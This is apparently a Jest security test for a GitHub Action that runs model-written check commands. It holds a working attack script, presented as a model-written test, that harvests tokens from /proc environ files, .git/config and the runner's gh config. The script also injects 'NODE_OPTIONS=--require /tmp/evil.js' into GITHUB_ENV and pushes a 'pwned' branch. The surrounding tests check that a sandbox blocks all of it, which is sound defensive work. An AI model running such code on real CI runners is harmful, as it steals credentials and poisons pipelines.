/**
 * Issue item 1, performed: a model-written test, run by `check-command`, goes after the
 * Action's credentials. It reads /proc/<pid>/environ of its parent and of every process
 * it can see (the Action's INPUT_GITHUB-TOKEN, INPUT_AMQP-URL, INPUT_SIGNING-KEY,
 * ACTIONS_RUNTIME_TOKEN), reads the token that actions/checkout persisted in .git/config
 * (in its working directory and in the real checkout), reads the runner user's home,
 * appends to GITHUB_ENV to poison later steps, commits and pushes, prints everything it
 * found and fails, so that its output goes into the failure report that is posted
 * publicly. Each test fails if any of that succeeds.
 *
 * The Action runs as a separate process (./check-attack-action.ts) with the credentials in
 * its environment, as on a runner. Where this machine can give the check a sandbox (root
 * or passwordless sudo, namespaces) the attack runs in it; elsewhere the check must be
 * refused without running anything.
 */
import { afterAll, beforeAll, describe, expect, it } from "@jest/globals";
import { execFileSync, spawnSync } from "node:child_process";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";

const ROOT = fileURLToPath(new URL("../../../", import.meta.url));
const TOKEN = "ghs_AttackTargetToken0123456789abcdefgh";
const AMQP_PASSWORD = "amqpPass-4f9c1e77d2";
const AMQP_URL = `amqps://agent:${AMQP_PASSWORD}@broker.example.com:5671/`;
const SIGNING_KEY = "signing-key-7be2c0d19a4e";
const RUNTIME_TOKEN = "runtime-token-93c1d8a0b7f2";
const HEADER = Buffer.from(`x-access-token:${TOKEN}`).toString("base64");
const SECRETS = [TOKEN, AMQP_PASSWORD, SIGNING_KEY, RUNTIME_TOKEN, HEADER];

let base: string;
let origin: string;
let checkout: string;
let githubEnv: string;
let runnerHome: string;

function git(args: string[], cwd: string): string {
  return execFileSync("git", args, {
    cwd,
    encoding: "utf8",
    env: {
      ...process.env,
      GIT_AUTHOR_NAME: "t",
      GIT_AUTHOR_EMAIL: "t@e",
      GIT_COMMITTER_NAME: "t",
      GIT_COMMITTER_EMAIL: "t@e",
    },
  }).trim();
}

beforeAll(() => {
  base = mkdtempSync(join(tmpdir(), "abuse-check-"));
  origin = join(base, "origin.git");
  checkout = join(base, "work", "widgets", "widgets");
  runnerHome = join(base, "home", "runner");
  const temp = join(base, "work", "_temp");
  mkdirSync(join(temp, "_runner_file_commands"), { recursive: true });
  mkdirSync(join(runnerHome, ".config", "gh"), { recursive: true });
  writeFileSync(
    join(runnerHome, ".config", "gh", "hosts.yml"),
    `github.com:\n  oauth_token: ${TOKEN}\n`,
  );
  githubEnv = join(temp, "_runner_file_commands", "set_env_0001");
  writeFileSync(githubEnv, "");
  writeFileSync(join(temp, "_runner_file_commands", "add_path_0001"), "");
  git(["init", "-q", "--bare", "-b", "main", origin], base);
  mkdirSync(checkout, { recursive: true });
  git(["init", "-q", "-b", "main"], checkout);
  mkdirSync(join(checkout, "app"));
  writeFileSync(
    join(checkout, "app", "calc.js"),
    "export const total = (xs) => xs.reduce((a, b) => a + b, 0);\n",
  );
  git(["add", "."], checkout);
  git(["commit", "-q", "-m", "init"], checkout);
  git(["remote", "add", "origin", origin], checkout);
  git(["push", "-q", "origin", "main"], checkout);
  // What actions/checkout leaves behind by default (persist-credentials: true).
  git(
    ["config", "http.https://github.com/.extraheader", `AUTHORIZATION: basic ${HEADER}`],
    checkout,
  );
});

afterAll(() => {
  rmSync(base, { recursive: true, force: true });
});

/** The model-written "test": the attack, with the paths an attacker can guess on a runner. */
function attack(): string {
  return `import { appendFileSync, readFileSync, readdirSync } from "node:fs";
import { execSync } from "node:child_process";
const note = (what, result) => console.log("ATTACK " + what + ": " + result);
const read = (path) => { try { return readFileSync(path, "utf8"); } catch (e) { return undefined; } };
let environs = 0;
for (const pid of [String(process.ppid), ...readdirSync("/proc").filter((n) => /^\\d+$/.test(n))]) {
  const env = read("/proc/" + pid + "/environ");
  if (env && env.includes("INPUT_GITHUB-TOKEN=")) { environs++; console.log(env.split("\\0").join("\\n")); }
}
note("environ with the token", environs ? "yes" : "no");
for (const path of [".git/config", ${JSON.stringify(checkout)} + "/.git/config"]) {
  const text = read(path);
  if (text) console.log(text);
  note("token in " + path, text && text.includes("extraheader") ? "yes" : "no");
}
const hosts = read(${JSON.stringify(join(runnerHome, ".config", "gh", "hosts.yml"))});
if (hosts) console.log(hosts);
note("runner home", hosts ? "yes" : "no");
try { appendFileSync(${JSON.stringify(githubEnv)}, "NODE_OPTIONS=--require /tmp/evil.js\\n"); note("GITHUB_ENV written", "yes"); }
catch { note("GITHUB_ENV written", "no"); }
for (const dir of [".", ${JSON.stringify(checkout)}]) {
  try {
    execSync("git -C " + dir + " -c user.name=x -c user.email=x@x commit -q --allow-empty -m pwned && git -C " + dir + " push -q origin HEAD:refs/heads/pwned", { stdio: "pipe" });
    note("push from " + dir, "yes");
  } catch { note("push from " + dir, "no"); }
}
process.exit(1);
`;
}

interface Outcome {
  ok?: boolean;
  failedAt?: string;
  isolation?: string;
  output?: string;
  report?: string;
  refused?: string;
}

function runAction(mode: "applyAndCheck" | "unisolated"): Outcome {
  const job = {
    mode,
    root: checkout,
    edits: [{ path: "test/attack.test.mjs", change: "create", hunks: [], content: attack() }],
    checkCommand: "node test/attack.test.mjs",
  };
  if (mode === "unisolated") writeFileSync(join(checkout, "test", "attack.test.mjs"), attack());
  const result = spawnSync(
    process.execPath,
    [
      "--import",
      "tsx",
      join(ROOT, "test/scenarios/attacks/check-attack-action.ts"),
      JSON.stringify(job),
    ],
    {
      cwd: ROOT,
      encoding: "utf8",
      timeout: 120_000,
      env: {
        PATH: process.env.PATH ?? "/usr/bin:/bin",
        HOME: runnerHome,
        "INPUT_GITHUB-TOKEN": TOKEN,
        "INPUT_AMQP-URL": AMQP_URL,
        "INPUT_SIGNING-KEY": SIGNING_KEY,
        "INPUT_CHECK-COMMAND": "node test/attack.test.mjs",
        ACTIONS_RUNTIME_TOKEN: RUNTIME_TOKEN,
        GITHUB_ENV: githubEnv,
        GITHUB_PATH: join(base, "work", "_temp", "_runner_file_commands", "add_path_0001"),
        GITHUB_WORKSPACE: checkout,
        RUNNER_WORKSPACE: join(base, "work", "widgets"),
        RUNNER_TEMP: join(base, "work", "_temp"),
      },
    },
  );
  const line = result.stdout.trim().split("\n").pop() ?? "";
  if (!line.startsWith("{"))
    throw new Error(`the Action process failed:\n${result.stdout}\n${result.stderr}`);
  return JSON.parse(line) as Outcome;
}

function branches(): string {
  return git(["for-each-ref", "--format=%(refname)", "refs/heads"], origin);
}

describe("a model-written test run by check-command attacks the Action's credentials", () => {
  it("reads nothing, writes nothing, pushes nothing, and nothing secret reaches the report", () => {
    const mainBefore = git(["rev-parse", "refs/heads/main"], origin);
    const outcome = runAction("applyAndCheck");
    // Nothing of the attack worked: no secret in what would be posted, no file command
    // written, no push, no step of the attack reporting success.
    for (const secret of SECRETS) {
      expect(JSON.stringify(outcome)).not.toContain(secret);
    }
    expect(readFileSync(githubEnv, "utf8")).toBe("");
    expect(branches()).toBe("refs/heads/main");
    expect(git(["rev-parse", "refs/heads/main"], origin)).toBe(mainBefore);
    expect(outcome.output ?? "").not.toMatch(/^ATTACK .*: yes$/m);
    if (outcome.refused !== undefined) {
      // No sandbox on this machine: the check must be refused, naming the opt-out.
      expect(outcome.refused).toContain("check-command-unisolated: true");
    } else {
      // The attack did run (its notes are there), in the sandbox, and failed the check.
      expect(outcome.isolation).toBe("sandbox");
      expect(outcome.failedAt).toBe("check");
      expect(outcome.output).toContain("ATTACK environ with the token: no");
      expect(outcome.output).toContain("ATTACK token in .git/config: no");
      expect(outcome.output).toContain(`ATTACK token in ${checkout}/.git/config: no`);
      expect(outcome.output).toContain("ATTACK runner home: no");
      expect(outcome.output).toContain("ATTACK GITHUB_ENV written: no");
      expect(outcome.output).toContain("ATTACK push from .: no");
      expect(outcome.report).toContain("The check command failed");
    }
    // The checkout is as it was: the edits were taken back after the failed check.
    expect(git(["status", "--porcelain"], checkout)).toBe("");
  });

  it("when the workflow opts in to an unisolated check, still posts none of the secrets", () => {
    // This path is for runners without a sandbox: the attack may read what it finds.
    // What must hold is that the output posted in the report is redacted.
    mkdirSync(join(checkout, "test"), { recursive: true });
    const outcome = runAction("unisolated");
    rmSync(join(checkout, "test"), { recursive: true, force: true });
    writeFileSync(githubEnv, "");
    for (const ref of branches()
      .split("\n")
      .filter((r) => r !== "refs/heads/main")) {
      git(["update-ref", "-d", ref], origin);
    }
    git(["reset", "-q", "--hard", "origin/main"], checkout);
    for (const secret of SECRETS) {
      expect(outcome.output).not.toContain(secret);
      expect(outcome.report).not.toContain(secret);
    }
    expect(outcome.isolation).toBe("unisolated");
    expect(outcome.output).toContain("ATTACK environ with the token: yes");
  });
});
